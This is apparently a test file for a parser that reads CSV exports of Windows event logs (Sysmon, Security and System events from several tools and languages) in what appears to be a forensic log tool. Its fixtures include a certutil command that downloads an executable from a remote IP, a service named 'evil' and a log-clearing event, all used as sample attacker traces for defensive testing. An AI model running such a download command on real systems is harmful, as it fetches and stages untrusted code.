/** Tables of events give the events that other exports of the same records give. */
import { describe, expect, test } from 'vitest';
import { format } from '../../../src/logs/csv/format.ts';
import { reportIn } from '../../../src/logs/open/own-report.ts';
import { sniff } from '../../../src/logs/open/sniff.ts';
import { codes, type Decoded, decode } from '../support.ts';

const CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
const PROVIDER = 'Microsoft-Windows-Sysmon';
const COMMAND = 'certutil -urlcache -f "http://198.51.100.7/a.exe"';
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const row = (...cells: string[]): string => cells.join(',');
const text = (...lines: string[]): string => `${lines.join('\r\n')}\r\n`;

function only(decoded: Decoded): Decoded['events'][number] {
  expect(decoded.events).toHaveLength(1);
  return decoded.events[0]!;
}

const head = (decoded: Decoded): unknown[] => {
  const { Channel, Provider, EventID, Computer, EventRecordID, TimeCreated } = only(decoded);
  return [Channel, Provider, EventID, Computer, EventRecordID, TimeCreated];
};
const data = (decoded: Decoded): object => ({ ...only(decoded).data });

const MESSAGE = text(
  'Process Create:',
  'RuleName: -',
  'UtcTime: 2024-03-05 09:06:22.440',
  'Image: C:\\Windows\\System32\\certutil.exe',
  `CommandLine: ${COMMAND}`,
  'a second line: of it',
  'User: PC1\\bob',
);
const FIELDS = {
  RuleName: '-',
  UtcTime: '2024-03-05 09:06:22.440',
  Image: 'C:\\Windows\\System32\\certutil.exe',
  CommandLine: `${COMMAND}\na second line: of it`,
  User: 'PC1\\bob',
};

describe('tables of known tools', () => {
  test('EvtxECmd: UserData and an empty Payload', () => {
    const payload = { UserData: { LogFileCleared: { SubjectUserName: 'bob', Channel: 'Security' } } };
    const log = text(
      'EventRecordId,TimeCreated,EventId,Provider,Channel,Computer,Payload',
      row('1', '2024-03-05 09:06:22', '1102', 'Microsoft-Windows-Eventlog', 'Security', 'PC1', quoted(JSON.stringify(payload))),
      row('2', '2024-03-05 09:06:23', '1100', 'Microsoft-Windows-Eventlog', 'Security', 'PC1', '{}'),
    );
    const { events } = decode(format, log);
    expect(events.map((event) => ({ ...event.data }))).toEqual([{ SubjectUserName: 'bob', Channel: 'Security' }, {}]);
    expect(events.map(({ TimeCreated }) => TimeCreated)).toEqual([
      '2024-03-05T09:06:22.0000000Z',
      '2024-03-05T09:06:23.0000000Z',
    ]);
  });

  test.each([
    ['English', 'Level,Date and Time,Source,Event ID,Task Category', 'Information', '3/5/2024 9:06:22 AM', ','],
    ['German', 'Ebene;Datum und Uhrzeit;Quelle;Ereignis-ID;Aufgabenkategorie', 'Informationen', '05.03.2024 09:06:22', ';'],
    [
      'French',
      "Niveau\tDate et heure\tSource\tID de l'événement\tCatégorie de la tâche",
      'Information',
      '05/03/2024 09:06:22',
      '\t',
    ],
    ['Chinese', '级别,日期和时间,来源,事件 ID,任务类别', '信息', '2024/3/5 上午 9:06:22', ','],
    ['Korean', '수준,날짜 및 시간,원본,이벤트 ID,작업 범주', '정보', '2024-03-05 오전 9:06:22', ','],
  ])('Event Viewer in %s, told by position and content', (_language, header, level, time, delimiter) => {
    const cells = [level, time, PROVIDER, '1', 'Process Create (rule: ProcessCreate)', quoted(MESSAGE)];
    const decoded = decode(format, text(header, cells.join(delimiter)));
    expect(head(decoded)).toEqual([CHANNEL, PROVIDER, 1, '', null, '2024-03-05T09:06:22.0000000Z']);
    expect(data(decoded)).toEqual(FIELDS);
    expect(codes(decoded)).toEqual(['csv/local-time at 0']);
  });

  test('Event Viewer: values of an audit event by their position, whatever the language of the labels', () => {
    const message = text(
      'Ein neuer Prozess wurde erstellt.',
      '',
      'Antragsteller:',
      '\tSicherheits-ID:\t\tS-1-5-21-1',
      '\tKontoname:\t\tbob',
      '\tKontodomäne:\t\tPC1',
      '\tAnmelde-ID:\t\t0x3E7',
      '',
      'Zielantragsteller:',
      '\tSicherheits-ID:\t\tS-1-0-0',
      '\tKontoname:\t\t-',
      '\tKontodomäne:\t\t-',
      '\tAnmelde-ID:\t\t0x0',
      '',
      'Prozessinformationen:',
      '\tNeue Prozess-ID:\t\t0x1a4',
      '\tNeuer Prozessname:\tC:\\Windows\\System32\\cmd.exe',
      '\tTyp der Tokenerhöhung:\t%%1936',
      '\tVerbindliche Beschriftung:\t\tS-1-16-8192',
      '\tErstellerprozess-ID:\t0x234',
      '\tErstellerprozessname:\tC:\\Windows\\explorer.exe',
      `\tProzessbefehlszeile:\t${COMMAND}`,
      '',
      'Der Typ der Tokenerhöhung gibt an: ein Typ.',
    );
    const log = text(
      'Schlüsselwörter,Datum und Uhrzeit,Quelle,Ereignis-ID,Aufgabenkategorie',
      row(
        'Überwachung erfolgreich',
        '05.03.2024 09:06:22',
        'Microsoft-Windows-Security-Auditing',
        '4688',
        'Process Creation',
        quoted(message),
      ),
    );
    const decoded = decode(format, log);
    expect(head(decoded).slice(0, 3)).toEqual(['Security', 'Microsoft-Windows-Security-Auditing', 4688]);
    expect(data(decoded)).toMatchObject({
      SubjectUserName: 'bob',
      TargetUserName: '-',
      NewProcessId: '0x1a4',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      CommandLine: COMMAND,
    });
  });

  test('Get-WinEvent | Export-Csv: with its type line', () => {
    const columns = 'Message,Id,RecordId,ProviderName,LogName,MachineName,TimeCreated';
    const cells = [MESSAGE, '1', '77', PROVIDER, CHANNEL, 'PC1', '13.03.2024 21:06:22'];
    const type = '#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord';
    const decoded = decode(format, text(type, columns.split(',').map(quoted).join(','), cells.map(quoted).join(',')));
    expect(head(decoded)).toEqual([CHANNEL, PROVIDER, 1, 'PC1', 77, '2024-03-13T21:06:22.0000000Z']);
    expect(data(decoded)).toEqual(FIELDS);
  });

  test('Get-EventLog | Export-Csv: the channel of a provider that has only one, a service by position', () => {
    const message = text(
      'A service was installed in the system.',
      '',
      'Service Name:  evil',
      'Service File Name:  C:\\a.exe -s',
      'Service Type:  user mode service',
      'Service Start Type:  demand start',
      'Service Account:  LocalSystem',
    );
    const log = text(
      '"EventID","MachineName","Index","EntryType","Message","Source","InstanceId","TimeGenerated"',
      ['7045', 'PC1', '5', 'Information', message, 'Service Control Manager', '1073748869', '3/5/2024 9:06:22 PM']
        .map(quoted)
        .join(','),
    );
    const decoded = decode(format, log);
    expect(head(decoded)).toEqual(['System', 'Service Control Manager', 7045, 'PC1', 5, '2024-03-05T21:06:22.0000000Z']);
    expect(data(decoded)).toEqual({
      ServiceName: 'evil',
      ImagePath: 'C:\\a.exe -s',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    });
  });

  test('Log Analytics: the time as its portal writes it', () => {
    const section = '<DataItem><EventData><Data Name="Image">C:\\a&amp;b.exe</Data></EventData></DataItem>';
    const log = text(
      '"TimeGenerated [UTC]",Source,EventLog,Computer,EventData,EventID',
      row(quoted('3/5/2024, 9:06:22.441 AM'), PROVIDER, CHANNEL, 'PC1', quoted(section), '1'),
    );
    expect(head(decode(format, log))).toEqual([CHANNEL, PROVIDER, 1, 'PC1', null, '2024-03-05T09:06:22.4410000Z']);
    expect(data(decode(format, log))).toEqual({ Image: 'C:\\a&b.exe' });
  });

  test('any other table: columns are keys, an empty cell is no field', () => {
    const log = text('EventID;Channel;Computer;Image;CommandLine', `1;${CHANNEL};PC1;C:\\a.exe;`, `1;${CHANNEL};PC1;;"x;y"`);
    expect(decode(format, log).events.map((event) => [event.EventID, event.Channel, { ...event.data }])).toEqual([
      [1, CHANNEL, { Image: 'C:\\a.exe' }],
      [1, CHANNEL, { CommandLine: 'x;y' }],
    ]);
  });
});

describe('dates of people', () => {
  const timesOf = (...times: string[]): (string | null)[] =>
    decode(
      format,
      text('Level,Date and Time,Source,Event ID,Task Category', ...times.map((time) => row('x', time, 'Y', '1', 'None', 'm'))),
    ).events.map(({ TimeCreated }) => TimeCreated?.slice(0, 19) ?? null);

  test('which is the month, a day beyond the twelfth anywhere in the first rows tells', () => {
    expect(timesOf('03/05/2024 09:06:22', '03/25/2024 09:06:22')).toEqual(['2024-03-05T09:06:22', '2024-03-25T09:06:22']);
    expect(timesOf('03/05/2024 09:06:22', '25/03/2024 09:06:22')).toEqual(['2024-05-03T09:06:22', '2024-03-25T09:06:22']);
  });

  test('noon and midnight of twelve hours, narrow blanks, marks of direction', () => {
    expect(timesOf('3/5/2024 12:06:22\u202fAM', '3/5/2024 12:06:22\u202fPM', '\u200e3/\u200e5/\u200e2024 1:06:22 PM')).toEqual([
      '2024-03-05T00:06:22',
      '2024-03-05T12:06:22',
      '2024-03-05T13:06:22',
    ]);
  });
});

describe('damage', () => {
  const HEAD = 'EventID,Channel,Computer,CommandLine';
  const good = (n: number, line = 'x'): string => row('1', CHANNEL, `PC${n}`, quoted(line));
  const computers = (decoded: Decoded): string[] => decoded.events.map(({ Computer }) => Computer);

  test('a row with too few or too many cells costs that row', () => {
    const decoded = decode(format, text(HEAD, good(1), '1,Sys', good(2), `${good(3)},4`, good(4), `${good(5)},,`));
    expect(computers(decoded)).toEqual(['PC1', 'PC2', 'PC4', 'PC5']);
    expect(decoded.stats.damaged).toBe(2);
    expect(decoded.diagnostics.map(({ code }) => code)).toEqual(['csv/columns', 'csv/columns']);
  });

  test('a quote that is lost costs the rows up to the next whole one', () => {
    const decoded = decode(format, text(HEAD, good(1), row('1', CHANNEL, 'PC2', '"cut'), good(3), good(4)));
    expect(computers(decoded)).toEqual(['PC1', 'PC3', 'PC4']);
    expect(codes(decoded)).toEqual([`csv/quote at ${text(HEAD, good(1)).length}`]);
  });

  test('the file ends inside of quotes: the rows before and behind are read', () => {
    const decoded = decode(format, text(HEAD, good(1), row('1', CHANNEL, 'PC2', '"cut')));
    expect(computers(decoded)).toEqual(['PC1']);
    expect(decoded.stats).toMatchObject({ records: 1, damaged: 1 });
  });

  test('blank lines and a header that comes again are no rows; the last line needs no end', () => {
    const decoded = decode(format, `${text(HEAD, good(1), '', HEAD)}${good(2)}`);
    expect(computers(decoded)).toEqual(['PC1', 'PC2']);
    expect(decoded.diagnostics).toEqual([]);
  });

  test('each event has the offset of its row, in blocks of any length', () => {
    const log = text(`\ufeff${HEAD}`, ...Array.from({ length: 300 }, (_, n) => good(n, `a "b"\r\n\tc ${'é'.repeat(n)}`)));
    const bytes = Buffer.from(log);
    const whole = decode(format, bytes);
    expect(whole.events).toHaveLength(300);
    for (const event of whole.events) {
      expect(bytes.toString('utf8', event.offset, event.offset + 40)).toBe(good(event.index).slice(0, 40).replaceAll('""', '""'));
      expect(event.data.CommandLine).toBe(`a "b"\r\n\tc ${'é'.repeat(event.index)}`);
    }
    for (const length of [1, 7, 4096]) expect(decode(format, bytes, [length])).toEqual(whole);
  });
});

describe('what is no log', () => {
  test.each([
    ['a table of something else', 'name,price,Channel\r\na,1,shop\r\n'],
    ['prose', 'Level, date, source.\r\nSo it was, in a way, said he.\r\n'],
    ['one column', 'EventID\r\n1\r\n'],
    ['a key=value line', 'LogName=Security\r\nEventCode=1\r\n'],
  ])('%s is not taken for one', (_what, content) => {
    expect(sniff(Buffer.from(content))).toBeNull();
  });

  test.each(['utf8', 'utf16le'] as const)('a table is told in %s', (encoding) => {
    const found = sniff(Buffer.from(`\ufeff${text('EventID,Channel,Image', row('1', CHANNEL, 'x'))}`, encoding));
    expect(found?.format.name).toBe('csv');
  });
});

describe('results of tools', () => {
  test.each([
    ['hayabusa', '"Timestamp","RuleTitle","Level","Computer","Channel","EventID","RecordID","Details"'],
    ['hayabusa', 'Timestamp,Computer,Channel,EventID,Level,RecordID,RuleTitle,Details'],
    ['chainsaw', 'timestamp,detections,path,count,Event.System.Provider,Event ID,Record ID,Computer,Event Data'],
    ['Zircolite', 'rule_title;rule_description;rule_level;rule_count;EventID;Channel;Computer'],
  ])('%s: refused as such', (tool, header) => {
    expect(reportIn(Buffer.from(`${header}\n`))).toEqual({
      code: 'input/tool-report',
      seen: `results of ${tool}, not an event log`,
    });
  });

  test('a log is not one', () => {
    expect(reportIn(Buffer.from('TimeCreated,EventId,Channel\n'))).toBeNull();
  });
});
